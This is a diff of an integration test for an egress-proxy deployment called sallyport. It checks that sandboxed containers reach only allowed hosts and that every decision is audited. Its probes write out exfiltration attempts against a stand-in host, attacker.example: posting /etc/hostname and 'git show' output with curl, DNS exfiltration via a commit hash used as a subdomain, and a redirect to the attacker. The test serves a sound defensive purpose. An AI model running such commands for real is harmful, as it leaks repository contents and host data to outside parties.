@@ -1,199 +1,268 @@
-// deploy/compose.yaml, brought up by a real Compose over a real engine: what a sandbox gets by the proxy, that nothing leads past it, what
-// the records say of its day, and what is left when it is taken down.
+// deploy/compose.yaml: what a sandbox gets by the proxy, that nothing leads past it, by probes that do arrive where nothing holds them
+// back, what the records say of its day, and what is left when it is taken down.
 
-import { execFileSync, spawn } from "node:child_process";
-import { once } from "node:events";
-import { cpSync, existsSync, readFileSync, writeFileSync } from "node:fs";
+import { execFileSync } from "node:child_process";
+import { readdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
-import { fileURLToPath } from "node:url";
-import { afterAll, beforeAll, expect, test } from "vitest";
-import { parse, stringify } from "yaml";
-import { describeContainers, startEngine, type Engine, type Ran } from "../support/containers.ts";
-import { createCa } from "../support/pki.ts";
-import { recordingOrigin, type RecordingOrigin } from "../support/recording-origin.ts";
-
-const REPOSITORY = fileURLToPath(new URL("../..", import.meta.url));
-const OUTSIDE = "10.213.8.1";
-const PROXY = "10.213.7.2";
-/** Podman says it of every network, and this Compose takes what the file does not say for a change. */
-const PODMANS = { options: { driver: "host-local" } };
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { EVERYWHERE, openPlace, type Place, PROXY, REPOSITORY } from "./compose/place.ts";
+import { ATTEMPTS, BY_LINK, INWARD, OUTWARD, type Probe } from "./compose/probes.ts";
+import { npmRegistry } from "../clients/machine.ts";
+import type { AuditRecord } from "../support/audit-records.ts";
+import { describeContainers } from "../support/containers.ts";
+import { answerRequests, OK } from "../support/recording-origin.ts";
 
 describeContainers("compose", () => {
-  let engine: Engine;
-  let deploy: string;
-  let stop: () => Promise<void>;
-  let origin: RecordingOrigin;
-  let attacker: RecordingOrigin;
-  /** A service of the machine's, at all of its addresses. */
-  let host: RecordingOrigin;
+  let place: Place;
+  /** Another sandbox. */
+  let other: string;
 
   beforeAll(async () => {
-    engine = await startEngine();
-    await engine.sallyport();
-    await engine.root("sandbox");
-    deploy = join(engine.directory, "deploy");
-    cpSync(join(REPOSITORY, "deploy"), deploy, { recursive: true });
-    const ca = createCa();
-    writeFileSync(join(deploy, "compose/trust.pem"), ca.cert);
-    const file = join(deploy, "compose/sallyport.yaml");
-    const config = parse(readFileSync(file, "utf8"));
-    const networks = [`${OUTSIDE}/32`];
-    config.upstream = {
-      trust: ["/etc/sallyport/trust.pem"],
-      hosts: { "packages.test": [OUTSIDE], "attacker.example": [OUTSIDE] },
-    };
-    config.policies.default.allow = [{ host: "packages.test", networks }];
-    writeFileSync(file, stringify(config));
-    const given = parse(readFileSync(join(deploy, "compose.yaml"), "utf8"));
-    // The outer network where the test knows it, and what the test's origins are trusted by.
-    const trust = "./compose/trust.pem:/etc/sallyport/trust.pem:ro";
-    const override = (sandboxes: object): string =>
-      stringify({
-        services: { sallyport: { volumes: [trust] }, files: { volumes: [trust] } },
-        networks: {
-          outside: { ipam: { config: [{ subnet: "10.213.8.0/24" }], ...PODMANS } },
-          sandboxes: { ...sandboxes, ipam: { config: [{ subnet: "10.213.7.0/24" }], ...PODMANS } },
-        },
-      });
-    writeFileSync(join(deploy, "override.yaml"), override(given.networks.sandboxes));
-    stop = await serve(engine);
-    execFileSync("nft", ["-f", join(deploy, "compose/host.nft")]);
-    const up = await compose("up", "--detach", "sallyport");
-    expect(up.code, up.stderr).toBe(0);
-    expect(execFileSync("ip", ["link", "show", "sallyport0"], { encoding: "utf8" })).toContain("sallyport0");
-    // Podman does not say a bridge's name again, which this Compose takes for a change.
-    const { driver_opts: _named, ...sandboxes } = given.networks.sandboxes;
-    writeFileSync(
-      join(deploy, "compose.yaml"),
-      stringify({ ...given, networks: { ...given.networks, sandboxes } }),
-    );
-    writeFileSync(join(deploy, "override.yaml"), override({ ...sandboxes }));
-    await engine.healthy("sallyport_sallyport_1");
-    const certificate = ca.issue({ names: ["packages.test", "attacker.example"] });
-    origin = await recordingOrigin(certificate, { address: OUTSIDE });
-    attacker = await recordingOrigin(certificate, { address: OUTSIDE });
-    host = await recordingOrigin(undefined, { address: "0.0.0.0" });
+    place = await openPlace();
+    await place.sandbox("probe", [], ["sleep", "infinity"]);
+    const services = ["python3", "/everywhere.py", "tcp:8080", "udp:8080"];
+    other = await place.sandbox("other", ["--volume", `${EVERYWHERE}:/everywhere.py:ro`], services);
+    // One that may change its network, of the operator's own making.
+    const bold = ["--cap-add", "NET_ADMIN", "--cap-add", "NET_RAW", "--network", "sallyport_sandboxes"];
+    await place.engine.podman([
+      "run",
+      "--detach",
+      "--name",
+      "bold",
+      ...bold,
+      "localhost/sandbox",
+      "sleep",
+      "infinity",
+    ]);
   }, 300_000);
-  afterAll(async () => {
-    await origin?.[Symbol.asyncDispose]();
-    await attacker?.[Symbol.asyncDispose]();
-    await host?.[Symbol.asyncDispose]();
-    await stop?.();
-    execFileSync("nft", ["delete", "table", "inet", "sallyport_sandboxes"]);
-    await engine?.[Symbol.asyncDispose]();
-  }, 60_000);
+  afterAll(() => place?.[Symbol.asyncDispose](), 60_000);
 
-  function compose(...args: readonly string[]): Promise<Ran> {
-    const files = [
-      "-p",
-      "sallyport",
-      "-f",
-      join(deploy, "compose.yaml"),
-      "-f",
-      join(deploy, "override.yaml"),
-    ];
-    const env = {
-      ...engine.variables,
-      DOCKER_HOST: `unix://${engine.directory}/podman.sock`,
-      SALLYPORT_IMAGE: "localhost/sallyport",
-      SANDBOX_IMAGE: "localhost/sandbox",
-    };
-    return new Promise((resolve) => {
-      const child = spawn("docker-compose", [...files, ...args], { env, stdio: ["ignore", "pipe", "pipe"] });
-      const out = { stdout: "", stderr: "" };
-      for (const stream of ["stdout", "stderr"] as const)
-        child[stream].setEncoding("utf8").on("data", (text: string) => (out[stream] += text));
-      child.once("close", (code) => resolve({ code, ...out }));
-    });
-  }
-  const sandbox = (script: string): Promise<Ran> =>
-    compose("run", "--rm", "-T", "sandbox", "sh", "-c", script);
+  /** With what the place knows in it. */
+  const filled = (line: string): string =>
+    line.replaceAll(/\$(HOST_PORT|ATTACKER_PORT|OTHER)\b/g, (_all, name: string) =>
+      String({ HOST_PORT: place.hostPort, ATTACKER_PORT: place.attacker.port, OTHER: other }[name]),
+    );
+  const shell = (container: string, line: string) => place.shell(container, filled(line));
 
   test("what a sandbox is told is what `sallyport env` says", async () => {
-    const printed = await compose("run", "--rm", "-T", "files");
+    const printed = await place.engine.podman(["logs", "sallyport_files_1"]);
     const kept = readFileSync(join(REPOSITORY, "deploy/compose/sandbox.env"), "utf8");
     const lines = (text: string): string[] => text.split(/\r?\n/).filter((line) => /^\w+=/.test(line));
-    expect(lines(printed.stdout), printed.stderr).toEqual(lines(kept));
+    expect(lines(printed)).toEqual(lines(kept));
   });
 
   test("an allowed download, a refused host, a refused method, and no key in sight", async () => {
-    const ran = await sandbox(`
-      curl -sS -o /dev/null -w '%{http_code}\\n' https://packages.test:${origin.port}/package.tgz
+    const { origin, attacker } = place;
+    const ran = await shell(
+      "probe",
+      `curl -sS -o /dev/null -w '%{http_code}\\n' https://packages.test:${origin.port}/package.tgz
       curl -sS -o /dev/null -w '%{http_code}\\n' -d @/etc/hostname https://packages.test:${origin.port}/up
       curl -sS -o /dev/null -w '%{http_connect}\\n' -d @/etc/hostname https://attacker.example:${attacker.port}/
-      ls /etc/sallyport | tr '\\n' ' '`);
+      ls /etc/sallyport | tr '\\n' ' '; touch /etc/sallyport/x 2>/dev/null && echo written`,
+    );
     expect(ran.stdout, ran.stderr).toBe("200\n403\n403\napt.conf bundle.pem ca.pem truststore.p12 wgetrc ");
     expect(attacker.connections).toBe(0);
   });
 
-  test.each([
-    ["TCP to the outside", `curl -sS -m 3 --noproxy '*' http://${OUTSIDE}:\${ATTACKER}/`],
-    ["TCP to a public address", "curl -sS -m 3 --noproxy '*' http://192.0.2.1/"],
-    ["IPv6", "curl -sS -m 3 --noproxy '*' 'http://[2001:db8::1]/'"],
-    ["the metadata address", "curl -sS -m 3 --noproxy '*' http://169.254.169.254/"],
-    ["DNS of its own", "getent hosts attacker.example"],
-    [
-      "DNS of the engine",
-      "dig +time=2 +tries=1 +noall +answer @10.213.7.1 attacker.example | grep -v '^;' | grep .",
-    ],
-    ["DNS to the outside", "dig +time=2 +tries=1 @192.0.2.53 attacker.example | grep -i 'status:'"],
-    ["ICMP", `ping -c 1 -W 2 ${OUTSIDE}`],
-    ["the host", "curl -sS -m 3 --noproxy '*' http://10.213.7.1:${HOST}/"],
-    [
-      "the host by its link",
-      "for one in $(ip -6 neigh | cut -d' ' -f1) fe80::1; do curl -sS -m 3 --noproxy '*' \"http://[$one%25eth0]:${HOST}/\" && exit 0; done; exit 1",
-    ],
-    ["the proxy's API", `curl -sS -m 3 --noproxy '*' http://${PROXY}:9128/healthz`],
-    ["the proxy's API by the proxy", `curl -sS -f -m 3 http://${PROXY}:9128/healthz`],
-    ["the proxy's API by its loopback", "curl -sS -f -m 3 http://127.0.0.1:9128/healthz --noproxy none.test"],
-  ])("%s leads nowhere", async (_what, script) => {
-    const ran = await sandbox(
-      script.replace("${ATTACKER}", String(attacker.port)).replace("${HOST}", String(host.port)),
-    );
-    expect(ran.code, ran.stdout + ran.stderr).not.toBe(0);
-    expect(attacker.connections).toBe(0);
+  /** Whether the sign is seen. Nothing else may arrive. */
+  async function seen(container: string, [, line, sign]: Probe): Promise<boolean> {
+    const before = await place.arrived();
+    const { stdout } = await shell(container, line);
+    if (sign instanceof RegExp) return sign.test(stdout);
+    const fresh = [...(await place.arrived())];
+    for (const one of before) fresh.splice(fresh.indexOf(one), 1);
+    expect(fresh.filter((one) => one !== sign)).toEqual([]);
+    return fresh.length > 0;
+  }
+
+  describe("nothing gets round it", () => {
+    test.each(OUTWARD)("%s", async (...probe) => {
+      expect([await seen("probe", probe), await seen("free", probe)]).toEqual([false, true]);
+    });
+
+    test.each(INWARD)("%s: closed by host.nft", async (...probe) => {
+      expect([await seen("probe", probe), await whileOpen(() => seen("probe", probe))]).toEqual([
+        false,
+        true,
+      ]);
+    });
+
+    test("the host, by its link: closed by host.nft", async () => {
+      expect([await seen("bold", BY_LINK), await whileOpen(() => seen("bold", BY_LINK))]).toEqual([
+        false,
+        true,
+      ]);
+    });
+
+    test("the proxy's API answers in the proxy's own container alone", async () => {
+      const ask = (address: string) => [
+        "curl",
+        "-sS",
+        "-m",
+        "2",
+        "--noproxy",
+        "*",
+        `http://${address}:9128/healthz`,
+      ];
+      const beside = ["run", "--rm", "--network", "container:sallyport_sallyport_1", "localhost/sandbox"];
+      expect(await place.engine.podman([...beside, ...ask("127.0.0.1")])).toContain("ok");
+      expect((await place.engine.run(["exec", "probe", ...ask(PROXY)])).code).toBe(7);
+    });
   });
 
-  test("a day in its life stands in the records, and nothing is left but the volumes", async () => {
-    await sandbox(`curl -sS -o /dev/null https://packages.test:${origin.port}/installed
-      curl -sS -d secrets https://attacker.example:${attacker.port}/collect; true`);
-    const cli = ["/usr/local/bin/node", "/opt/sallyport/dist/cli/main.js"];
-    const told = await compose(
-      "exec",
-      "-T",
-      "sallyport",
-      ...cli,
-      "audit",
-      "tail",
-      "--all",
-      "--sandbox",
-      "compose",
-    );
-    expect(told.stdout, told.stderr).toMatch(/allow +compose +GET https:\/\/packages\.test:\d+\/installed/);
-    expect(told.stdout).toMatch(/deny +compose +CONNECT attacker\.example:\d+ +host-not-allowed/);
-    expect(told.stdout).toMatch(/deny +compose +GET http:\/\/10\.213\.7\.2:9128/);
-    expect(await compose("down")).toMatchObject({ code: 0 });
-    expect(await engine.podman(["ps", "--all", "--quiet"])).toBe("");
-    expect((await engine.podman(["network", "ls", "--format", "{{.Name}}"])).split("\n")).toEqual(["podman"]);
-    expect((await engine.podman(["volume", "ls", "--format", "{{.Name}}"])).split("\n").toSorted()).toEqual([
-      "sallyport_data",
-      "sallyport_files",
-    ]);
+  test("what is tried by the proxy is refused, reaches nobody, and stands in its records", async () => {
+    const [before, told] = [await place.arrived(), (await place.records()).length];
+    for (const [, line] of ATTEMPTS) await shell("probe", line);
+    const records = (await place.records()).slice(told).filter(({ type }) => type === "decision");
+    expect(records.map(recorded)).toEqual(ATTEMPTS.map(([, , record]) => filled(record)));
+    expect(await place.arrived()).toEqual(before);
   });
+
+  const recorded = ({ method, host, port, reason }: AuditRecord): string =>
+    [method, ...(host === undefined ? [] : [`${String(host)}:${String(port)}`]), reason].join(" ");
+
+  test("no sandbox is started where the host, or another sandbox, would answer it", async () => {
+    const run = () => place.compose("run", "--rm", "-T", "sandbox", "echo", "started");
+    const tables = (hook: "inet" | "bridge") => ["delete", "table", hook, "sallyport_sandboxes"];
+    for (const [table, answers] of [
+      ["inet", "10.213.7.1"],
+      ["bridge", "10.213.7.3"],
+    ] as const) {
+      execFileSync("nft", tables(table));
+      const ran = await run();
+      place.closeHost();
+      expect([ran.code, ran.stdout]).toEqual([1, ""]);
+      const { stderr } = await place.engine.run(["logs", "--tail", "1", "sallyport_wall_1"]);
+      expect(stderr).toBe(
+        `${answers} answers a sandbox: the host is not closed. sudo nft -f compose/host.nft\n`,
+      );
+    }
+    expect((await run()).stdout).toContain("started");
+  });
+
+  test("an agent's day: every step is recorded, and nothing is left but the data", async () => {
+    const { origin, attacker, cli } = place;
+    const [before, told] = [await place.arrived(), (await place.records()).length];
+    origin.behave(answerRequests((head) => (head.includes("/moved") ? movedTo(attacker.port) : OK)));
+
+    const registered = [
+      "--id",
+      "agent-42",
+      "--phase",
+      "setup",
+      "--setup-policy",
+      "default",
+      "--policy",
+      "agent",
+    ];
+    const seenAs = [
+      "--proxy",
+      `http://${PROXY}:3128`,
+      "--mount-point",
+      "/etc/sallyport",
+      "--format",
+      "dotenv",
+    ];
+    const environment = (
+      await cli("sandbox", "register", ...registered, "--label", "task=42", ...seenAs)
+    ).split("\n");
+    const given = environment.filter((line) => /^\w+_proxy=/i.test(line)).flatMap((line) => ["-e", line]);
+    const registry = npmRegistry();
+    await place.sandbox(
+      "agent",
+      [...given, "-e", `npm_config_registry=${registry.href}`],
+      ["sleep", "infinity"],
+    );
+    const says = async (line: string): Promise<string> => {
+      const { stdout, stderr } = await shell(
+        "agent",
+        `mkdir -p /tmp/work && cd /tmp/work && export HOME=/tmp && ${line}`,
+      );
+      return stdout + stderr;
+    };
+
+    const commit = "git -c user.name=a -c user.email=a@a.test commit -q";
+    await says(
+      `git init -q && npm install --no-audit --no-fund is-number && git add . && ${commit} -m "its work"`,
+    );
+    expect(await says("git log --oneline && ls node_modules")).toMatch(/its work\nis-number/);
+    await cli("sandbox", "move", "agent-42", "agent");
+
+    const status = "curl -sS -o /dev/null -w '%{http_code}%{http_connect}'";
+    expect(await says(`${status} https://packages.test:${origin.port}/page`)).toBe("200200");
+    expect(await says(`${status} -d question https://model.test:${origin.port}/v1`)).toBe("200200");
+
+    const collect = `https://attacker.example:${attacker.port}/collect`;
+    expect(await says(`git show | curl -sS -X POST --data-binary @- ${collect}`)).toContain("403");
+    expect(
+      await says("dig +time=1 +tries=1 +short $(git rev-parse HEAD | head -c 20).attacker.example"),
+    ).toMatch(/no servers/);
+    expect(await says(`${status} https://$(printf 9a1).attacker.example/`)).toContain("403");
+    expect(await says(`curl -sS -L https://packages.test:${origin.port}/moved`)).toContain("403");
+    expect(await says(`${status} -X DELETE https://packages.test:${origin.port}/page`)).toBe("403200");
+    expect(await says(`${status} -T package.json https://packages.test:${origin.port}/page`)).toBe("403200");
+    expect(await says("npm view --fetch-retries 0 is-number version")).toContain("403");
+    await cli("sandbox", "end", "agent-42", "--reason", "done");
+    expect(await says(`${status} https://packages.test:${origin.port}/page`)).toContain("407");
+
+    const steps = (await place.records()).slice(told).flatMap(step);
+    // npm takes several connections at once.
+    const set = `setup ${registry.hostname} allow`;
+    expect(steps.filter((one, at) => one !== set || steps[at - 1] !== set)).toEqual([
+      "sandbox.register agent-42",
+      set,
+      "sandbox.move agent-42",
+      "agent CONNECT packages.test allow",
+      "agent GET packages.test allow",
+      "agent CONNECT model.test allow",
+      "agent POST model.test allow",
+      "agent CONNECT attacker.example host-not-allowed",
+      "agent CONNECT 9a1.attacker.example host-not-allowed",
+      "agent CONNECT packages.test allow",
+      "agent GET packages.test allow",
+      "agent CONNECT attacker.example host-not-allowed",
+      "agent CONNECT packages.test allow",
+      "agent DELETE packages.test method-not-allowed",
+      "agent CONNECT packages.test allow",
+      "agent PUT packages.test method-not-allowed",
+      `agent CONNECT ${registry.hostname} host-not-allowed`,
+      "sandbox.end agent-42",
+      "nobody CONNECT packages.test credentials-wrong",
+    ]);
+    expect(await cli("audit", "verify")).toMatch(/^whole: /);
+    expect(await place.arrived()).toEqual(before);
+    expect(origin.received).not.toMatch(/^(?:DELETE|PUT) /m);
+
+    await place.engine.podman(["rm", "--force", "--time", "0", "world", "free", "bold"]);
+    const down = await place.compose("down");
+    expect(down.code, down.stderr).toBe(0);
+    const left = async (...args: string[]) => (await place.engine.podman(args)).split("\n");
+    expect(await left("ps", "--all", "--quiet")).toEqual([""]);
+    expect(await left("network", "ls", "--format", "{{.Name}}")).toEqual(["podman"]);
+    expect(await left("volume", "ls", "--format", "{{.Name}}")).toEqual(["sallyport_data"]);
+    expect(readdirSync(join(place.deploy, "compose/files"))).toEqual([".gitignore"]);
+  });
+
+  async function whileOpen<T>(work: () => Promise<T>): Promise<T> {
+    place.openHost();
+    try {
+      return await work();
+    } finally {
+      place.closeHost();
+    }
+  }
 });
 
-/** The engine's API, for Compose. */
-async function serve(engine: Engine): Promise<() => Promise<void>> {
-  const socket = join(engine.directory, "podman.sock");
-  const service = spawn("podman", ["system", "service", "--time", "0", `unix://${socket}`], {
-    env: engine.variables,
-    stdio: "ignore",
-  });
-  const ended = once(service, "exit");
-  for (let tries = 0; tries < 200 && !existsSync(socket); tries++)
-    await new Promise((resolve) => setTimeout(resolve, 50));
-  return async () => {
-    service.kill();
-    await ended;
-  };
+/** Of a decision or of what was done by the API. */
+function step({ type, fields, sandbox, phase, method, host, verdict, reason }: AuditRecord): string[] {
+  if (type === "control") {
+    const { action, object } = fields as { action: string; object: string };
+    return [`${action} ${object}`];
+  }
+  if (type !== "decision") return [];
+  const how = phase === "setup" ? [] : [method];
+  return [[sandbox === undefined ? "nobody" : phase, ...how, host, reason ?? verdict].join(" ")];
 }
+
+const movedTo = (port: number): string =>
+  `HTTP/1.1 302 Found\r\nLocation: https://attacker.example:${port}/\r\nContent-Length: 0\r\n\r\n`;
